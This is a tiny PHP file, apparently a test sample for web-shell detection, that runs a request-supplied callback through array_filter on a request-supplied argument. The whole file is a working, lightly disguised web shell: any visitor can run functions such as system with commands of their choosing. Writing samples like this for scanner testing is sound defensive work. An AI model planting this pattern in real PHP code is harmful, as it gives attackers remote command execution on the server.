<?php
// Test sample: array_filter with request-provided callback.
$items = array($_REQUEST['cmd']);
array_filter($items, $_REQUEST['cb']);
